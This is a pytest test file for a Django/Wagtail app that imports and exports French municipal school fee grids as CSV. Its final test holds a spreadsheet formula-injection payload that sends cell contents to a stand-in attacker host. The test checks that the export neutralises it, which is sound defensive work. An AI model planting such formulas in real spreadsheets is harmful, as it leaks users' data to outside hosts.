"""``import_fees`` / ``export_fees``: the demo files import as published grids; a malformed file is refused
with line numbers and changes nothing; re-importing replaces a grid as a whole (published, scheduled or
kept as a draft); the export reads back into the same grids."""

import csv
import io
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from wagtail.models import Revision

from mon_enfant.csvfiles import ImportFileError
from mon_enfant.fees import services
from mon_enfant.fees.importers import export_fees, import_fees
from mon_enfant.fees.models import FeeBracket, FeeGrid, NonResidentBracket, Service, SiblingRule

pytestmark = pytest.mark.django_db

FIXTURES = Path(__file__).resolve().parents[2] / "example_site" / "fixtures" / "saint-malo"
TARIFS_2025 = FIXTURES / "tarifs-2025-2026.csv"
TARIFS_2026 = FIXTURES / "tarifs-2026-2027.csv"
HEADER = "code_insee;annee_scolaire;prestation;unite;public;methode;qf_min;qf_max;prix;prix_pai;taux;plancher;plafond"
QUOTE_URL = "/api/mon-enfant/v1/fees/quote"


def csv_bytes(*rows, header=HEADER):
    return ("\n".join([header, *rows]) + "\n").encode()


def canteen(*prices, year="2025-2026", code="35288"):
    """A three-bracket canteen grid: [0, 500), [500, 1000), [1000, ∞)."""
    bounds = [("0", "500"), ("500", "1000"), ("1000", "")]
    return [f"{code};{year};Cantine;repas;resident;tranches;{low};{high};{price};;;;"
            for (low, high), price in zip(bounds, prices, strict=True)]


def snapshot():
    return (
        list(FeeGrid.objects.order_by("pk").values_list("pk", "live", "has_unpublished_changes", "latest_revision")),
        list(FeeBracket.objects.order_by("pk").values_list("pk", "price")),
        NonResidentBracket.objects.count(), SiblingRule.objects.count(), Service.objects.count(),
        Revision.objects.count(),
    )


def quote_price(client, qf, year="2025-2026", service="cantine"):
    response = client.post(QUOTE_URL, {"commune": "35288", "school_year": year, "qf": qf},
                           content_type="application/json")
    if response.status_code != 200:
        return response.status_code
    return next(q["unit_price"] for q in response.json()["quotes"] if q["service"] == service)


@pytest.fixture
def imported(commune_a):
    return import_fees(csv_bytes(*canteen("1.00", "2.00", "3.00")))


# --- The demo files ---------------------------------------------------------------------------


def test_demo_files_import_as_published_grids(commune_a, client):
    report = import_fees(TARIFS_2025.read_bytes())
    import_fees(TARIFS_2026.read_bytes())
    assert len(report.created) == 4
    assert FeeGrid.objects.filter(live=True).count() == 8
    assert list(Service.objects.values_list("slug", "unit")) == [
        ("restauration-scolaire", "repas"), ("accueil-periscolaire", "demi-heure"),
        ("accueil-de-loisirs", "journee"), ("etude-surveillee", "seance")]
    assert quote_price(client, "1050", "2026-2027", "restauration-scolaire") == "3.52"
    assert quote_price(client, "1050", "2026-2027", "accueil-periscolaire") == "0.76"  # 1050 x 0.072 %


def test_demo_grids_carry_non_resident_and_sibling_rules(commune_a):
    import_fees(TARIFS_2025.read_bytes())
    loisirs = FeeGrid.objects.get(service__slug="accueil-de-loisirs")
    assert loisirs.non_resident_mode == "brackets"
    assert loisirs.non_resident_brackets.count() == 2
    assert [(rule.from_rank, rule.percent_off) for rule in loisirs.sibling_rules.all()] == [
        (2, 10), (3, 20)]


# --- Malformed files: refused with line numbers, nothing changed -----------------------------

MALFORMED = {
    "bad decimal": (canteen("1.00", "2,0,0", "3.00"), [(3, "prix « 2,0,0 » n'est pas un nombre")]),
    "negative price": (canteen("1.00", "-2", "3.00"), [(3, "ne peut pas être négatif")]),
    "unknown unit": ([row.replace(";repas;", ";assiette;") for row in canteen("1", "2", "3")],
                     [(2, "unité « assiette » inconnue"), (3, "unité"), (4, "unité")]),
    "unknown public": ([canteen("1", "2", "3")[0].replace(";resident;", ";tous;"), *canteen("1", "2", "3")[1:]],
                       [(2, "public « tous » inconnu")]),
    "bad school year": ([row.replace("2025-2026", "2025-2027") for row in canteen("1", "2", "3")],
                        [(2, "la seconde année doit suivre la première")]),
    "unknown commune": (canteen("1", "2", "3", code="35085"), [(2, "commune 35085 inconnue")]),
    "invalid INSEE code": (canteen("1", "2", "3", code="ABCDE"), [(2, "code INSEE « ABCDE » invalide")]),
    "gap": (["35288;2025-2026;Cantine;repas;resident;tranches;0;500;1;;;;",
             "35288;2025-2026;Cantine;repas;resident;tranches;600;;2;;;;"],
            [(3, "Il manque les QF de 500 à 600 entre la tranche 1 et la tranche 2. (tranche précédente : ligne 2)")]),
    "overlap": (["35288;2025-2026;Cantine;repas;resident;tranches;0;500;1;;;;",
                 "35288;2025-2026;Cantine;repas;resident;tranches;400;;2;;;;"],
                [(3, "La tranche 2 (à partir de 400) chevauche la tranche 1 (de 0 à 500). (tranche précédente : "
                     "ligne 2)")]),
    "not from zero": (["35288;2025-2026;Cantine;repas;resident;tranches;100;;2;;;;"],
                      [(2, "doit commencer à 0")]),
    "open bracket not last": (["35288;2025-2026;Cantine;repas;resident;tranches;0;;1;;;;",
                               "35288;2025-2026;Cantine;repas;resident;tranches;500;;2;;;;"],
                              [(2, "Seule la dernière tranche peut être sans borne haute")]),
    "mixed methods": (["35288;2025-2026;Cantine;repas;resident;tranches;0;500;1;;;;",
                       "35288;2025-2026;Cantine;repas;resident;forfait;;;2;;;;"],
                      [(2, "mélangent plusieurs méthodes")]),
    "rate without ceiling": (["35288;2025-2026;Garderie;heure;resident;taux;;;;;0,36;2,60;"],
                             [(2, "plafond manquant pour la méthode « taux »")]),
    "floor above ceiling": (["35288;2025-2026;Garderie;heure;resident;taux;;;;;0,36;4,60;2,50"],
                            [(2, "Le plancher (4,60 €) ne peut pas dépasser le plafond (2,50 €).")]),
    "unit conflict": (["35288;2025-2026;Cantine;repas;resident;tranches;0;500;1;;;;",
                       "35288;2025-2026;Cantine;journee;resident;tranches;500;;2;;;;"],
                      [(3, "unité « journee » différente de celle de la ligne 2")]),
    "only non-residents": (["35288;2025-2026;Cantine;repas;non_resident;forfait;;;6;;;;"],
                           [(2, "n'a aucune ligne « resident »")]),
    "PAI on some brackets only": (["35288;2025-2026;Cantine;repas;resident;tranches;0;500;1;0,5;;;",
                                   "35288;2025-2026;Cantine;repas;resident;tranches;500;;2;;;;"],
                                  [(3, "n'a pas de tarif panier repas")]),
    "wrong column count": (["35288;2025-2026;Cantine;repas;resident;tranches;0;;1"], [(2, "9 colonnes trouvées")]),
}


@pytest.mark.parametrize("kind", MALFORMED)
def test_malformed_file_is_refused_with_line_numbers_and_changes_nothing(imported, kind):
    rows, expected = MALFORMED[kind]
    before = snapshot()
    with pytest.raises(ImportFileError) as refused:
        import_fees(csv_bytes(*rows))
    errors = [(error.line, error.message) for error in refused.value.errors]
    for line, fragment in expected:
        assert any(found_line == line and fragment in message for found_line, message in errors), errors
    assert snapshot() == before


@pytest.mark.parametrize(("data", "message"), [
    (b"", "Le fichier est vide."),
    (b"code_insee;prestation\n35288;Cantine\n", "colonnes manquantes"),
    (csv_bytes(*canteen("1", "2", "3")).replace(b"Cantine", "Cantine élémentaire".encode("latin-1")),
     "pas encodé en UTF-8"),
    (csv_bytes(*[row + ";" for row in canteen("1", "2", "3")], header=HEADER + ";remise"),
     "colonnes inconnues : remise"),
])
def test_unreadable_file_is_refused(imported, data, message):
    before = snapshot()
    with pytest.raises(ImportFileError) as refused:
        import_fees(data)
    assert message in str(refused.value)
    assert snapshot() == before


ARABIC_ZERO, ARABIC_TWO = "\u0660", "\u0662"


@pytest.mark.parametrize(("row", "fragment"), [
    (f"35288;2025-2026;Cantine;repas;resident;tranches;{ARABIC_ZERO};;1;;;;", f"qf_min « {ARABIC_ZERO} »"),
    (f"35288;2025-2026;Cantine;repas;resident;tranches;0;;{ARABIC_TWO},50;;;;", "prix « \u0662,50 »"),
    ("35288;2025-2026;Cantine;repas;resident;tranches;0;;１;;;;", "prix « １ »"),
    ("35288;\u0662\u0660\u0662\u0665-\u0662\u0660\u0662\u0666;Cantine;repas;resident;tranches;0;;1;;;;",
     "n'est pas une année scolaire"),
])
def test_a_number_in_another_scripts_digits_is_refused_with_its_line(imported, row, fragment):
    before = snapshot()
    with pytest.raises(ImportFileError) as refused:
        import_fees(csv_bytes(row))
    (error,) = refused.value.errors
    assert error.line == 2
    assert fragment in error.message
    assert snapshot() == before


def test_a_sibling_rank_in_another_scripts_digits_is_refused(imported):
    before = snapshot()
    with pytest.raises(ImportFileError) as refused:
        import_fees(csv_bytes("35288;2025-2026;Cantine;repas;resident;tranches;0;;1;;;;;;" + ARABIC_TWO + ":10%",
                              header=HEADER + ";sans_qf;fratrie"))
    (error,) = refused.value.errors
    assert error.message.startswith(f"fratrie « {ARABIC_TWO}:10% » : écrivez le rang")
    assert snapshot() == before


def test_one_bad_grid_refuses_the_whole_file(commune_a):
    good = canteen("1", "2", "3")
    bad = ["35288;2025-2026;Garderie;heure;resident;taux;;;;;0,36;;"]
    with pytest.raises(ImportFileError):
        import_fees(csv_bytes(*good, *bad))
    assert not FeeGrid.objects.exists()
    assert not Service.objects.exists()


def test_an_editor_cannot_import_another_communes_grids(commune_a, commune_b):
    with pytest.raises(ImportFileError) as refused:
        import_fees(csv_bytes(*canteen("1", "2", "3", code="35085")), allowed_communes=[commune_a])
    assert "la commune 35085 ne fait pas partie de vos communes" in str(refused.value)
    assert not FeeGrid.objects.exists()


def test_every_error_of_the_file_is_reported_at_once(commune_a):
    rows = canteen("abc", "2", "3") + ["35288;2025-2026;Garderie;heures;resident;taux;;;;;0,36;2;3"]
    with pytest.raises(ImportFileError) as refused:
        import_fees(csv_bytes(*rows))
    assert [error.line for error in refused.value.errors] == [2, 5]


# --- Replacing, drafts, scheduling ------------------------------------------------------------


def test_reimporting_replaces_the_grid_as_a_whole(imported, client):
    grid = FeeGrid.objects.get()
    assert quote_price(client, "1200") == "3.00"
    report = import_fees(csv_bytes("35288;2025-2026;Cantine;repas;resident;tranches;0;800;1.50;;;;",
                                   "35288;2025-2026;Cantine;repas;resident;tranches;800;;2.50;;;;"))
    assert report.replaced == ["Cantine 2025-2026 (35288)"]
    assert FeeGrid.objects.get().pk == grid.pk
    assert list(FeeBracket.objects.values_list("qf_min", "price")) == [(0, 1.5), (800, 2.5)]
    assert quote_price(client, "1200") == "2.50"


def test_dry_run_reports_and_changes_nothing(imported):
    before = snapshot()
    report = import_fees(csv_bytes(*canteen("9", "9", "9")), dry_run=True)
    assert report.replaced == ["Cantine 2025-2026 (35288)"]
    assert "Simulation : rien n'a été enregistré." in report.summary_lines()
    assert snapshot() == before


def test_a_draft_import_leaves_the_published_grid_in_use(imported, client):
    import_fees(csv_bytes(*canteen("5", "6", "7")), publish=False)
    grid = FeeGrid.objects.get()
    assert (grid.live, grid.has_unpublished_changes) == (True, True)
    assert quote_price(client, "100") == "1.00"
    assert [b.price for b in grid.get_latest_revision_as_object().brackets.all()] == [5, 6, 7]
    grid.latest_revision.publish()
    assert quote_price(client, "100") == "5.00"


def test_a_new_grid_imported_as_draft_is_not_quoted(commune_a, client):
    import_fees(csv_bytes(*canteen("1", "2", "3")), publish=False)
    assert FeeGrid.objects.get().live is False
    assert quote_price(client, "100") == 422  # no published grid for the year


def test_a_scheduled_import_goes_live_with_publish_scheduled(commune_a, client, monkeypatch):
    import datetime as dt

    from django.utils import timezone

    go_live = timezone.now() + dt.timedelta(days=30)
    report = import_fees(csv_bytes(*canteen("1", "2", "3")), go_live_at=go_live)
    assert any("Publication programmée" in line for line in report.summary_lines())
    assert FeeGrid.objects.get().live is False
    call_command("publish_scheduled", stdout=None)
    assert quote_price(client, "100") == 422
    later = go_live + dt.timedelta(minutes=1)
    monkeypatch.setattr(timezone, "now", lambda: later)
    call_command("publish_scheduled")
    assert FeeGrid.objects.get().live is True
    assert quote_price(client, "100") == "1.00"


def test_commune_filter_skips_other_communes_rows(commune_a, commune_b):
    report = import_fees(csv_bytes(*canteen("1", "2", "3"), *canteen("1", "2", "3", code="35085")),
                         communes=["35288"])
    assert report.skipped_filtered == 3
    assert FeeGrid.objects.get().service.commune == commune_a


def test_optional_columns_are_optional(commune_a):
    header = "code_insee;annee_scolaire;prestation;unite;public;qf_min;qf_max;prix"
    import_fees(csv_bytes("35288;2025-2026;Étude;seance;resident;;;1,50",
                          "35288;2025-2026;Cantine;Repas;Résident;0;;3,05", header=header))
    assert dict(FeeGrid.objects.values_list("service__slug", "pricing")) == {"etude": "flat", "cantine": "brackets"}


def test_a_locked_grid_is_not_replaced(imported, superuser):
    FeeGrid.objects.update(locked=True, locked_by=superuser)
    with pytest.raises(ImportFileError) as refused:
        import_fees(csv_bytes(*canteen("5", "6", "7")))
    assert "verrouillée" in str(refused.value)


# --- Export -------------------------------------------------------------------------------------


def test_export_reads_back_into_the_same_grids(commune_a):
    import_fees(TARIFS_2025.read_bytes())
    import_fees(TARIFS_2026.read_bytes())
    exported = export_fees()
    assert exported.count("\n") == 1 + 18 + 18
    services.clear_cache()
    before = snapshot()[1:3]
    import_fees(exported.encode())
    assert export_fees() == exported
    assert [price for _pk, price in snapshot()[1]] == [price for _pk, price in before[0]]


def test_export_matches_the_imported_file_cell_for_cell(commune_a):
    import_fees(TARIFS_2025.read_bytes())
    source = [line.split(";") for line in TARIFS_2025.read_text().splitlines()]
    exported = [line.split(";") for line in export_fees().splitlines()]
    assert exported[0] == source[0]
    for row_in, row_out in zip(source[1:], exported[1:], strict=True):
        normalized = [cell.replace(",", ".") for cell in row_in]
        for cell_in, cell_out in zip(normalized, row_out, strict=True):
            assert cell_in == cell_out or (cell_in and cell_out and float(cell_in) == float(cell_out))


def test_export_with_drafts_shows_the_latest_version(imported):
    import_fees(csv_bytes(*canteen("5", "6", "7")), publish=False)
    assert ";1.00;" in export_fees()
    assert ";5.00;" in export_fees(drafts=True)


# --- Commands -----------------------------------------------------------------------------------


def test_import_command_publishes_and_reports(commune_a, capsys):
    call_command("import_fees", str(TARIFS_2025))
    assert "4 grilles créées" in capsys.readouterr().out
    assert FeeGrid.objects.filter(live=True).count() == 4


def test_import_command_dry_run_and_draft(commune_a, capsys):
    call_command("import_fees", str(TARIFS_2025), "--dry-run")
    assert not FeeGrid.objects.exists()
    call_command("import_fees", str(TARIFS_2025), "--draft")
    assert FeeGrid.objects.filter(live=False).count() == 4
    assert "brouillons" in capsys.readouterr().out


def test_import_command_refuses_a_bad_file_with_line_numbers(commune_a, tmp_path, capsys):
    path = tmp_path / "tarifs.csv"
    path.write_bytes(csv_bytes(*canteen("1", "deux", "3")))
    with pytest.raises(CommandError, match="rien n'a été modifié"):
        call_command("import_fees", str(path))
    assert "Ligne 3 : prix « deux » n'est pas un nombre." in capsys.readouterr().err


def test_import_command_schedules_with_go_live(commune_a):
    call_command("import_fees", str(TARIFS_2025), "--go-live", "2099-07-01")
    grid = FeeGrid.objects.first()
    assert grid.live is False
    assert grid.scheduled_revision is not None


def test_export_command_writes_a_file(commune_a, tmp_path):
    import_fees(TARIFS_2025.read_bytes())
    output = tmp_path / "export.csv"
    call_command("export_fees", "--commune", "35288", "--school-year", "2025-2026", "-o", str(output))
    assert output.read_text(encoding="utf-8") == export_fees()


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez ici")'


def test_a_name_that_looks_like_a_formula_is_imported_as_typed_and_exported_as_text(commune_a):
    quoted = '"' + FORMULA.replace('"', '""') + '"'
    import_fees(csv_bytes(f"35288;2025-2026;{quoted};repas;resident;tranches;0;;1.50;;;;"))
    assert Service.objects.get().name == FORMULA
    (row,) = csv.DictReader(io.StringIO(export_fees()), delimiter=";")
    assert row["prestation"] == "'" + FORMULA
    assert (row["code_insee"], row["unite"], row["qf_min"], row["prix"]) == ("35288", "repas", "0", "1.50")
